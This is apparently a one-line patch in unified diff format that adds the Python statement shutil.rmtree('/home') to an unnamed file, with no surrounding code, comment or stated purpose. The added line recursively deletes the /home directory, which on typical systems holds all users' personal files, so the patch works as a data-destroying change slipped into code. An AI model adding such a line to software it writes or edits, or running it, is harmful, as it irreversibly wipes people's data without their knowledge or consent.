@@ -1,0 +1,1 @@
+shutil.rmtree('/home')
